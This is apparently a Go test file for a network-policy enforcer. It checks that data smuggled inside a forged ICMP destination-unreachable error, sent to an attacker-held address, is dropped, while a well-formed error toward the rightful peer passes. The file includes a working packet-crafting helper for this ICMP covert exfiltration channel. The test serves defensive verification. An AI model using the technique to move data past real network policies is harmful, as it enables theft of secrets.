package attacks

import (
	"bytes"
	"net"
	"net/netip"
	"testing"
	"time"

	"github.com/google/gopacket"
	"github.com/google/gopacket/layers"
	"github.com/vishvananda/netlink"

	"github.com/trireme-go/trireme/testenv"
)

// icmpError builds an ICMP destination-unreachable (port unreachable)
// error from src to dst that quotes the IP packet quoted, with extra
// bytes after the quote (data the sender smuggles).
func icmpError(srcMAC, dstMAC net.HardwareAddr, src, dst netip.Addr, quoted, extra []byte) []byte {
	ip := testenv.IPv4(src, dst, layers.IPProtocolICMPv4)
	icmp := &layers.ICMPv4{TypeCode: layers.CreateICMPv4TypeCode(3, 3)}
	return testenv.Frame(testenv.Eth(srcMAC, dstMAC, layers.EthernetTypeIPv4), ip, icmp,
		gopacket.Payload(append(append([]byte(nil), quoted...), extra...)))
}

// TestICMPCovertChannel (item 9): web, allowed to reach db:5432 and
// nothing else, has a connection to db and tries to send data to a host
// the policy keeps it from (198.18.0.7, an address of the attacker PU)
// inside an ICMP error that quotes a packet of that connection. An error
// about a flow travels only on the flow's path (from the PU back to the
// quoted packet's sender): web's enforcer drops this one (bad-icmp-error)
// and nothing reaches the attacker. The same error toward db, where it
// belongs, passes: the control that the error itself is well formed.
func TestICMPCovertChannel(t *testing.T) {
	s := newScene(t, sceneOptions{})
	covert := netip.MustParseAddr("198.18.0.7")
	if err := s.attacker.Do(func() error {
		l, err := netlink.LinkByName("eth0")
		if err != nil {
			return err
		}
		return netlink.AddrAdd(l, &netlink.Addr{IPNet: &net.IPNet{IP: covert.AsSlice(), Mask: net.CIDRMask(32, 32)}})
	}); err != nil {
		t.Fatal(err)
	}
	c, client, server := s.established()
	raw := s.web.Raw()
	exfil := s.attacker.Raw()
	atDB := s.db.Raw()
	// A packet web received on its connection: db -> web, as its IP header
	// and the first 8 bytes of TCP quote it.
	quoted := testenv.TCPSegment(s.db.MACOf(), raw.MAC, server, client, "PA", 1000, 2000, nil)[14 : 14+28]
	secret := []byte("EXFILTRATED-34-BYTES-OF-SECRETS!!!")

	before := s.drops()
	raw.MustSend(icmpError(raw.MAC, s.attacker.MACOf(), s.web.Addr, covert, quoted, secret))
	waitDropOn(t, s.d, before, "bad-icmp-error")
	if got := exfil.Capture(300*time.Millisecond, carrying(string(secret))); len(got) != 0 {
		t.Fatalf("the ICMP error reached the attacker (%d frames)", len(got))
	}

	// Control: the error toward the quoted packet's sender (db) fits its
	// flow and passes.
	raw.MustSend(icmpError(raw.MAC, s.db.MACOf(), s.web.Addr, s.db.Addr, quoted, nil))
	if got := atDB.Capture(500*time.Millisecond, func(p gopacket.Packet) bool {
		icmp, _ := p.Layer(layers.LayerTypeICMPv4).(*layers.ICMPv4)
		return icmp != nil && icmp.TypeCode.Type() == 3 && bytes.Contains(icmp.Payload, quoted[12:20])
	}); len(got) == 0 {
		t.Fatal("the ICMP error of web's connection toward db did not reach db")
	}
	if err := testenv.EchoConn(c.(net.Conn), "still-ok", 3*time.Second); err != nil {
		t.Fatalf("the connection after the ICMP errors: %v", err)
	}
}
